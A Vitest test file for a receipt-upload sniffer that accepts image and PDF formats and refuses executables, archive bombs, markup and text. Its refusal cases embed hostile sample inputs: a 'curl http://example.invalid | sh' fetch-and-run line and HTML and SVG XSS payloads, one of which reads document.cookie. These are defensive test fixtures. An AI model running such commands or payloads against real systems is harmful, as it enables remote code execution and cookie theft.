import { describe, expect, it } from 'vitest';
import { bytesSource, sniffReceipt, type ByteSource, type SniffResult } from '../src/lib.js';
import * as make from './inputs.js';

const sniff = (file: Uint8Array, declared?: { name?: string; type?: string }): Promise<SniffResult> =>
  sniffReceipt(bytesSource(file), { declared });

function refusedWith(result: SniffResult, code: string): void {
  expect(result.outcome === 'refused' ? result.code : `accepted as ${result.format}`).toBe(code);
}

describe('accepted formats', () => {
  it.each([
    ['jpeg', () => make.photoJpeg(), 'image/jpeg'],
    ['png', () => make.receiptImage('png'), 'image/png'],
    ['webp', () => make.receiptImage('webp'), 'image/webp'],
    ['tiff', () => make.receiptImage('tiff'), 'image/tiff'],
    ['1.4 MB tiff', () => make.noisyTiff(), 'image/tiff'],
    ['heic', async () => make.heicBoxes(), 'image/heic'],
    ['avif', () => make.receiptImage('avif'), 'image/avif'],
    ['pdf', () => make.invoicePdf(2), 'application/pdf'],
  ])('takes a %s for what it is', async (name, build, mime) => {
    const format = name.split(' ').at(-1);
    const result = await sniff(await build());
    expect(result).toMatchObject({ outcome: 'accepted', format, mime, trailingBytes: 0 });
  });

  it('handles a PNG renamed .pdf as a PNG, and reports the mismatch', async () => {
    const result = await sniff(await make.receiptImage('png'), { name: 'facture.pdf', type: 'application/pdf' });
    expect(result).toMatchObject({ outcome: 'accepted', format: 'png', mismatch: { extension: 'pdf', type: 'application/pdf' } });
  });

  it('sees no mismatch in a right name, a generic type, or no name at all', async () => {
    const jpeg = await make.photoJpeg();
    for (const declared of [{ name: 'IMG_0042.JPEG', type: 'image/jpeg' }, { name: 'photo.jpg', type: 'application/octet-stream' }, {}]) {
      const result = await sniff(jpeg, declared);
      expect(result.outcome === 'accepted' && result.mismatch).toBe(undefined);
    }
  });

  it('reads only the head and tail of a large file', async () => {
    const jpeg = await make.photoJpeg(2000, 1500);
    expect(jpeg.length).toBeGreaterThan(1_000_000);
    const result = await sniff(jpeg);
    expect(result.outcome).toBe('accepted');
    expect(result.bytesRead).toBeLessThanOrEqual(64 * 1024 + 65 * 1024 + 4096);
  });
});

describe('refusals', () => {
  it('refuses an empty file without reading', async () => {
    const result = await sniff(new Uint8Array(0), { name: 'receipt.jpg', type: 'image/jpeg' });
    refusedWith(result, 'empty');
    expect(result.bytesRead).toBe(0);
  });

  it('refuses a file over 20 MB without reading a byte', async () => {
    const huge: ByteSource = {
      size: 20 * 1024 * 1024 + 1,
      read: () => Promise.reject(new Error('a file over the limit must not be read')),
    };
    const result = await sniffReceipt(huge);
    refusedWith(result, 'too-large');
    expect(result.outcome === 'refused' && result.message.fr).toContain('20 Mo');
  });

  it.each([
    ['ELF', make.elf, 'executable'],
    ['Windows PE', make.windowsExe, 'executable'],
    ['Mach-O', make.machO, 'executable'],
    ['shell script', () => make.bytes('#!/bin/sh\ncurl http://example.invalid | sh\n'), 'executable'],
    ['JAR', make.jar, 'executable'],
    ['ZIP', () => make.zip([{ name: 'receipt.jpg', data: make.noise(200) }]), 'archive'],
    ['zip bomb named .jpg', make.zipBomb, 'archive'],
    ['gzip bomb', make.gzipBomb, 'archive'],
    ['tar', () => make.tar('receipt.jpg', make.noise(700)), 'archive'],
    ['7z', make.sevenZip, 'archive'],
    ['RAR', make.rar, 'archive'],
    ['DOCX', make.docx, 'archive'],
    ['ODT', make.odt, 'archive'],
    ['HTML named .jpg', () => make.bytes('<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>'), 'markup'],
    ['HTML after a BOM and blank lines', () => make.bytes('\xef\xbb\xbf\n\n  <html><script>alert(1)</script></html>'), 'markup'],
    [
      'SVG with a script',
      () => make.bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'),
      'markup',
    ],
    ['XML', () => make.bytes('<?xml version="1.0"?><invoice><total>42.00</total></invoice>'), 'markup'],
    ['plain text', () => make.bytes('TOTAL TTC 42,00 EUR\nMerci de votre visite\n'), 'text'],
    ['UTF-16 text', () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Total 42,00', 'utf16le')]), 'text'],
    ['random bytes', () => make.noise(5000), 'unknown-format'],
    ['GIF', () => make.receiptImage('gif'), 'unsupported-format'],
  ])('refuses %s', async (_name, build, code) => {
    const result = await sniff(await build(), { name: 'receipt.jpg', type: 'image/jpeg' });
    refusedWith(result, code);
    expect(result.outcome === 'refused' && result.message.en.length > 10 && result.message.fr.length > 10).toBe(true);
  });

  it('refuses encrypted PDFs, with a user password or only an owner password', async () => {
    refusedWith(await sniff(await make.encryptedPdf({ userPassword: 'secret', ownerPassword: 'owner' })), 'encrypted-pdf');
    refusedWith(await sniff(await make.encryptedPdf({ ownerPassword: 'owner' })), 'encrypted-pdf');
  });

  it('stops when the signal is aborted', async () => {
    const controller = new AbortController();
    controller.abort(new Error('deadline'));
    await expect(sniffReceipt(bytesSource(await make.photoJpeg()), { signal: controller.signal })).rejects.toThrow('deadline');
  });
});
